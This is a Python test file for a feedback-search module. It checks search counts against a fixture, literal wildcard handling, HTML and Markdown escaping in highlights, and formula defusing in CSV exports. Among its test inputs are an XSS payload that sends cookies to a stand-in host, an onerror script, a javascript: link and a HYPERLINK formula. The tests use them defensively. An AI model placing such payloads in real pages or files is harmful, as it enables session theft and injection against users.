"""voc.search: verbatim search (any language, literal, scoped), safe highlighting, the CSV download.

Expected figures are counted by hand from tests/fixture.sql (written next to each assertion) and
re-counted with pandas over the raw fixture rows, never with the function under test.
"""
from __future__ import annotations

import datetime as dt
import io

import pandas as pd
import pytest

import voc.db
from voc import search
from voc.periods import Period
from voc.scope import ALL, Scope
from voc.search import Criteria

CURRENT = Period(dt.date(2026, 8, 3), dt.date(2026, 10, 31))


@pytest.fixture(scope="module")
def raw(database) -> pd.DataFrame:
    """Every feedback row of the fixture, read straight from the table (no scope, no product code)."""
    cur = database.cursor()
    try:
        return cur.execute("select * from main.feedback").df()
    finally:
        cur.close()


def band(sentiment) -> str | None:
    if sentiment is None or sentiment != sentiment:
        return None
    return "negative" if sentiment < -0.2 else "positive" if sentiment > 0.2 else "neutral"


def expected_ids(raw: pd.DataFrame, period: Period, term: str = "", themes=(), bands=(), sources=(),
                 languages=(), units=None) -> list[str]:
    """Matching feedback ids, newest first, computed in plain pandas/Python."""
    start = pd.Timestamp(period.start)
    end = pd.Timestamp(period.end) + pd.Timedelta(days=1)
    rows = raw[(raw.submitted_at >= start) & (raw.submitted_at < end) & raw.text.notna()]
    if term:
        rows = rows[rows.text.str.lower().str.contains(term.lower(), regex=False)]
    if themes:
        rows = rows[rows.themes.map(lambda t: hasattr(t, "__iter__") and any(x in set(themes) for x in t))]
    if bands:
        rows = rows[rows.sentiment.map(band).isin(bands)]
    if sources:
        rows = rows[rows.source.isin(sources)]
    if languages:
        rows = rows[rows.language.fillna("unknown").isin(languages)]
    if units is not None:
        rows = rows[rows.unit_id.isin(units)]
    return list(rows.sort_values(["submitted_at", "feedback_id"], ascending=False).feedback_id)


# ---- search terms -----------------------------------------------------------------------------

@pytest.mark.parametrize("term,hand_count", [
    ("late", 18),      # 15 us_west current detractors "Delivery was late again" + fb-d01 + fb-d02
                       # + nps-cur-x12 "Much better lately"
    ("LATE", 18),      # not case-sensitive
    ("Late Again", 16),  # 15 "late again" + fb-d01 "Late again"
    ("送货", 12),       # current zh detractors: shanghai 6 + beijing 4 + south_china 2
    ("慢", 13),         # the 12 above + fb-d07 "配送太慢了"
    ("热情", 1),        # fb-d08
    ("%", 0),           # no text holds a literal % (unescaped it would match every row)
    ("_", 0),           # no text holds a literal _ (unescaped it would match every row)
    ("l_te", 0),        # would match "late" if _ were a wildcard
    ("la%e", 0),        # would match "late" if % were a wildcard
    ("zzz-nothing", 0),
])
def test_search_counts_match_the_fixture(term, hand_count, database, raw):
    found = search.search(CURRENT, Criteria.of(term), scope=ALL, database=database)
    assert found.total == hand_count
    assert list(found.rows.feedback_id) == expected_ids(raw, CURRENT, term)


def test_no_term_lists_every_text_in_the_period(database, raw):
    found = search.search(CURRENT, Criteria.of(""), limit=500, scope=ALL, database=database)
    want = expected_ids(raw, CURRENT)
    assert found.total == len(want) > 0
    assert list(found.rows.feedback_id) == want


def test_results_are_newest_first_and_limited(database, raw):
    found = search.search(CURRENT, Criteria.of("late"), limit=5, scope=ALL, database=database)
    assert found.total == 18 and found.shown == 5 and found.capped
    assert list(found.rows.feedback_id) == expected_ids(raw, CURRENT, "late")[:5]
    assert found.rows.feedback_id.iloc[0] == "fb-d02"  # 2026-10-31 23:59:59, the newest
    assert found.rows.submitted_at.is_monotonic_decreasing
    assert "18 verbatims" in found.summary("late") and "newest 5" in found.summary("late")


def test_period_edges_are_inclusive(database):
    first_day = Period(dt.date(2026, 8, 3), dt.date(2026, 8, 3))
    last_day = Period(dt.date(2026, 10, 31), dt.date(2026, 10, 31))
    assert list(search.search(first_day, Criteria.of("late"), database=database).rows.feedback_id) == ["fb-d01"]
    assert list(search.search(last_day, Criteria.of("late"), database=database).rows.feedback_id) == ["fb-d02"]


@pytest.mark.parametrize("filters", [
    dict(themes=["late_delivery"]),
    dict(themes=["late_delivery", "easy_app"]),
    dict(bands=["negative"]),
    dict(bands=["positive", "neutral"]),
    dict(sources=["review", "social"]),
    dict(languages=["zh"]),
    dict(term="late", sources=["review"]),
    dict(themes=["late_delivery"], bands=["negative"], sources=["review"], languages=["zh"]),
])
def test_filters_match_an_independent_count(filters, database, raw):
    term = filters.pop("term", "")
    found = search.search(CURRENT, Criteria.of(term, **filters), limit=1000, scope=ALL, database=database)
    want = expected_ids(raw, CURRENT, term, **filters)
    assert found.total == len(want)
    assert list(found.rows.feedback_id) == want


def test_all_filters_together_find_the_one_chinese_review(database):
    criteria = Criteria.of("", themes=["late_delivery"], bands=["negative"], sources=["review"], languages=["zh"])
    found = search.search(CURRENT, criteria, database=database)
    assert list(found.rows.feedback_id) == ["fb-d07"]  # by hand: the only zh review in the period


@pytest.mark.parametrize("scope,units,term,hand_count", [
    (Scope.of("us_west"), {"us_west"}, "late", 17),  # the 18 above but x12, who is in us_east
    (Scope.of("bu_cn"), {"shanghai", "beijing", "south_china"}, "late", 0),
    (Scope.of("bu_cn"), {"shanghai", "beijing", "south_china"}, "慢", 13),
    (Scope.of("shanghai"), {"shanghai"}, "慢", 7),  # 6 shanghai detractors + fb-d07
    (Scope.of("bu_na").narrow(sources=["social"]), {"us_west", "us_east", "canada"}, "", 2),  # fb-d02, fb-d14
])
def test_search_respects_the_scope(scope, units, term, hand_count, database, raw):
    found = search.search(CURRENT, Criteria.of(term), limit=500, scope=scope, database=database)
    sources = scope.sources or ()
    assert found.total == hand_count
    assert list(found.rows.feedback_id) == expected_ids(raw, CURRENT, term, sources=sources, units=units)


def test_like_pattern_escapes_wildcards():
    assert search.like_pattern("50%") == "%50\\%%"
    assert search.like_pattern("order_id") == "%order\\_id%"
    assert search.like_pattern("C:\\temp") == "%C:\\\\temp%"
    assert search.like_pattern("  ") is None
    assert len(search.normalise_term("x" * 1000)) == search.MAX_TERM


PLANTED = [
    ("pl-1", "Price went up 50% this year"),
    ("pl-2", "Waited 500 days for a reply"),          # matches "50%" only if % were a wildcard
    ("pl-3", "My order_id is 42"),
    ("pl-4", "My order id is 42"),                    # matches "order_id" only if _ were a wildcard
    ("pl-5", "Saved it to C:\\temp as asked"),
    ("pl-6", "=HYPERLINK(\"http://evil.example\",\"click\")"),
    ("pl-7", "- minus at the start, @mention, +plus"),
]


@pytest.fixture
def planted(private_db_path):
    db = voc.db.get(private_db_path)
    with db.write() as cur:
        for i, (feedback_id, text) in enumerate(PLANTED):
            cur.execute(
                "insert into feedback (feedback_id, unit_id, segment, source, solicited, submitted_at, language, "
                "text, sentiment) values (?, 'us_east', 'plus', 'email', false, ?, 'en', ?, 0.0)",
                [feedback_id, dt.datetime(2026, 9, 1, 12, i), text])
    return db


@pytest.mark.parametrize("term,want", [
    ("50%", ["pl-1"]),
    ("order_id", ["pl-3"]),
    ("C:\\temp", ["pl-5"]),
    ("ORDER ID", ["pl-4"]),
])
def test_wildcards_in_the_term_are_literal(term, want, planted):
    found = search.search(CURRENT, Criteria.of(term), scope=ALL, database=planted)
    assert list(found.rows.feedback_id) == want


# ---- highlighting -----------------------------------------------------------------------------

def test_highlight_wraps_every_match_keeping_its_case():
    assert search.highlight("Late again, so late", "late") == (
        ":orange-background[Late] again\\, so :orange-background[late]")


def test_highlight_chinese():
    assert search.highlight("送货太慢了", "慢") == "送货太:orange-background[慢]了"


@pytest.mark.parametrize("text", [
    "Late again <script>alert(1)</script>",                                       # fb-d01
    '<script>document.location="https://evil.example/?c="+document.cookie</script> worst service ever',  # fb-d14
    "电话等了很久 <img src=x onerror=alert(1)>",                                    # fb-d09
    "Great app, <b>love it</b>",                                                  # fb-d04
])
@pytest.mark.parametrize("term", ["", "script", "late", "<", "img"])
def test_highlight_leaves_no_html(text, term):
    out = search.highlight(text, term)
    assert "<" not in out and ">" not in out
    assert "&lt;" in out


def test_highlight_escapes_markdown_and_directives():
    out = search.highlight("**bold** [click](javascript:alert(1)) :red[x] $x$ # head", "click")
    assert "**" not in out.replace("\\*", "")
    assert "\\[" in out and "\\]\\(javascript\\:" in out
    assert ":red[" not in out and "\\:red\\[x\\]" in out
    assert "\\$x\\$" in out and "\\# head" in out
    assert ":orange-background[click]" in out


def test_highlight_keeps_addresses_from_becoming_links():
    out = search.highlight("write to jane.doe@example.com or see https://evil.example and www.evil.example", "")
    assert "@\u2060" in out and "\\/\\/\u2060" in out and "www\u2060" in out


def test_highlight_flattens_whitespace_so_nothing_becomes_a_code_block():
    assert search.highlight("    indented\n\n# not a heading", "") == "indented \\# not a heading"


def test_meta_line_is_escaped(database):
    row = search.search(CURRENT, Criteria.of("script"), database=database).rows.iloc[0]
    line = search.meta_line(row, {"support_rude": "Unhelpful <support>"})
    assert "<" not in line and "Unhelpful &lt;support&gt;" in line


# ---- download ---------------------------------------------------------------------------------

def _read_csv(data: bytes) -> pd.DataFrame:
    assert data.startswith("\ufeff".encode("utf-8"))  # BOM, so Excel reads Chinese text correctly
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False)


@pytest.mark.parametrize("criteria,scope", [
    (Criteria.of("late"), ALL),
    (Criteria.of("", bands=["negative"], languages=["zh"]), ALL),
    (Criteria.of(""), Scope.of("us_west")),
])
def test_csv_holds_exactly_the_selection(criteria, scope, database, raw):
    frame = _read_csv(search.csv_bytes(CURRENT, criteria, scope=scope, database=database))
    units = {"us_west"} if scope.units else None
    want = expected_ids(raw, CURRENT, criteria.term, bands=criteria.bands, languages=criteria.languages,
                        units=units)
    assert list(frame.feedback_id) == want
    assert "total_matches" not in frame.columns


def test_csv_keeps_the_text_and_chinese(database):
    frame = _read_csv(search.csv_bytes(CURRENT, Criteria.of("配送"), database=database))
    assert list(frame.text) == ["配送太慢了，等了两个星期"]
    frame = _read_csv(search.csv_bytes(CURRENT, Criteria.of("script"), database=database))
    assert "Late again <script>alert(1)</script>" in list(frame.text)  # a CSV is data, not markup


def test_csv_defuses_spreadsheet_formulas(planted):
    frame = _read_csv(search.csv_bytes(CURRENT, Criteria.of("", sources=["email"]), database=planted))
    texts = dict(zip(frame.feedback_id, frame.text))
    assert texts["pl-6"].startswith("'=HYPERLINK")
    assert texts["pl-7"].startswith("'- minus")
    assert texts["pl-1"] == "Price went up 50% this year"


def test_csv_is_capped_and_says_so(database, monkeypatch):
    monkeypatch.setattr(search, "CSV_LIMIT", 3)
    frame = _read_csv(search.csv_bytes(CURRENT, Criteria.of("late"), database=database))
    assert len(frame) == 3
    assert "newest 3 of the 18" in search.csv_note(18)
    assert "all 2 matching" in search.csv_note(2)
    assert "the 1 matching verbatim " in search.csv_note(1)
